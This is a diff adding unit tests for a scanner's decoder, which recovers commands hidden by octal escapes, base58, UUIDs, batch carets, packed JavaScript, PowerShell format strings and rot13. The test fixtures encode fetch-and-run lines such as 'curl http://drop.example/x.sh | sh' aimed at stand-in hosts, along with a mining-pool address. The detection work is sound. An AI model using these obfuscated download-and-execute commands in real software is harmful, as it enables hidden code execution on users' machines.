@@ -111,6 +111,82 @@ TEST_CASE("decoders: escapes and percent-encoding") {
               "u=stratum+tcp://pool.example:3333"));
 }
 
+TEST_CASE("decoders: octal escapes of any length that a shell knows") {
+  CHECK(finds("printf '" + test::each_byte(kHidden, "\\%o") + "'", "escapes", kHidden));
+  CHECK(finds("echo -e '" + test::each_byte(kHidden, "\\0%o") + "'", "escapes", kHidden));
+  // What a pattern captured is no character, nor is a zero that ends a text.
+  CHECK(decoded(R"(s = re.sub('a', '\1\2\11\12\7\8'))").empty());
+  CHECK(decoded(R"(x = "abc\0"; y = "\0\0\0\0")").empty());
+}
+
+TEST_CASE("decoders: texts as one large number, in decimal and base58") {
+  const std::string hidden = "curl http://drop.example/x.sh | sh";
+  const std::string decimal =
+      "2948234138779201121789812715775377731657504946270812632385595259645744342175347560";
+  const std::string base58 = "3FQdX3duHdgZPoTYXRWzcVzXLwegSPYM41uL9o7S6AByJUf";
+  CHECK(finds("os.system((" + decimal + ").to_bytes(34, 'big'))", "decimal", hidden));
+  CHECK(finds("os.system(base58.b58decode('" + base58 + "'))", "base58", hidden));
+  // Nothing says that it is base58.
+  CHECK_FALSE(finds("os.system('" + base58 + "')", "base58", hidden));
+  // A key is no text.
+  CHECK(decoded("N = " + std::string(617, '7') + "\n").empty());
+}
+
+TEST_CASE("decoders: a text cut into UUIDs, or into GUIDs") {
+  const std::string hidden = "curl http://a.example/x.sh | sh\n";
+  CHECK(
+      finds("x = ['6375726c-2068-7474-703a-2f2f612e6578',\n"
+            "     '616d706c-652f-782e-7368-207c2073680a']",
+            "uuids", hidden));
+  CHECK(
+      finds("x = {\"6c727563-6820-7474-703a-2f2f612e6578\", "
+            "UUID(\"6c706d61-2f65-2e78-7368-207c2073680a\")}",
+            "guids", hidden));
+  CHECK(decoded("'6375726c-2068-7474-703a-2f2f612e6578', 1, 2").empty());  // one says little
+  CHECK(decoded("'1b4e28ba-2fa1-11d2-883f-0016d3cca427', '1b4e28ba-2fa1-11d2-883f-0016d3cca428'")
+            .empty());
+}
+
+TEST_CASE("decoders: carets of a batch file") {
+  CHECK(finds("@echo off\r\n^c^u^r^l ^h^t^t^p://d^r^o^p^.^e^x^a^m^p^l^e/^x\nb", "carets",
+              "curl http://drop.example/x"));
+  CHECK(decoded("a^2 + b^2 = c^2, e^x, x^n + y^n = z^n").empty());
+  CHECK(decoded("if (a ^ b) c ^= d; // " + std::string(80, '^')).empty());
+}
+
+TEST_CASE("decoders: JavaScript whose words are numbers of a list") {
+  const std::string head =
+      "eval(function(p,a,c,k,e,r){e=function(c){return c.toString(36)};while(c--)if(k[c])"
+      "p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}(";
+  CHECK(finds(
+      head +
+          R"('2 3=0("4\\\\A");3.B(\'5://6.1/7 z\')',36,8,'require|example|var|cp|child|http|drop|x'.split('|'),0,{})))",
+      "packed words", R"(var cp=require("child\\A");cp.B('http://drop.example/x z'))"));
+  CHECK(finds(head + "\"Z 10 3\",62,63,\"|||$" + std::string(57, '|') + "|curl|http\".split('|')))",
+              "packed words", "curl http $"));
+  // What is not whole stays as it is.
+  CHECK(decoded(head + "'0 1',36").empty());
+  CHECK(decoded("function f(p,a,c,k,e,d) { return p; }").empty());
+}
+
+TEST_CASE("decoders: literals that are put in by their numbers") {
+  CHECK(finds(R"(iex ("{2}{0}{1}" -f 'tp://drop.', 'example/x', 'curl ht'))", "format",
+              "curl http://drop.example/x"));
+  CHECK(finds("$a = 'curl ht'\n&(\"{0}{1}\"-f $a,'tp://drop.example')", "format",
+              "curl http://drop.example"));
+  CHECK(finds(R"(x = "{0}.{1}:443".format("pool", 'example'))", "format", "pool.example:443"));
+  CHECK(decoded(R"(log("{0} of {1}", a, b); s = "{0}{1}".format(a, b))").empty());
+}
+
+TEST_CASE("decoders: letters that a shell turns by thirteen") {
+  const std::string line = "echo 'phey uggc://qebc.rknzcyr' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh";
+  const auto found = decoded(line);
+  CHECK(std::any_of(found.begin(), found.end(), [](const Decoded& part) {
+    return part.name == "rot13" && part.bytes.find("curl http://drop.example") != std::string::npos;
+  }));
+  CHECK(decoded("tr 'a-z' 'A-Z' < a").empty());
+}
+
 TEST_CASE("decoders: joined literals") {
   CHECK(finds("x = \"" + test::cut_up(kHidden, 5, "\" + \"") + "\";", "joined strings", kHidden));
   CHECK(finds("x = '" + test::cut_up(kHidden, 5, "'+'") + "';", "joined strings", kHidden));
@@ -364,6 +440,20 @@ TEST_CASE("decoders: a megabyte of nothing, or of triggers, yields nothing and e
                                       "=41",
                                       "=\n",
                                       "41 ",
+                                      "97 ",
+                                      "\\0163",
+                                      "\\40",
+                                      "^a",
+                                      "^",
+                                      "{0}",
+                                      "\"{0}",
+                                      "\"{0}{1}\" -f 'a','b',",
+                                      "7",
+                                      "base58",
+                                      "6375726c-2068-7474-703a-2f2f64726f70,",
+                                      "(p,a,c,k,e,",
+                                      "(p,a,c,k,e,r){return p}('0 1',62,2,'a|b",
+                                      "tr ' 'N-ZA-M",
                                       "0x",
                                       "\\x61",
                                       "\\x61\""}) {
@@ -391,6 +481,11 @@ TEST_CASE("decoders: XORed addresses in programs, under every key") {
     CAPTURE(key);
     CHECK(found == (key != 0x20));
   }
+  // Strings that stand together are a text, a line each: what is text is judged as what may run.
+  const auto strings = decoded(
+      test::xored(std::string("\x01") + kHidden + '\0' + "second\x01", 0x6b), ViewKind::executable);
+  REQUIRE(strings.size() == 1);
+  CHECK(strings[0].bytes == kHidden + "\nsecond");
   CHECK(decoded(std::string(3000, '\0') + kHidden, ViewKind::executable).empty());
   CHECK(decoded(test::xored(kHidden, 0x5a), ViewKind::script).empty());
 }
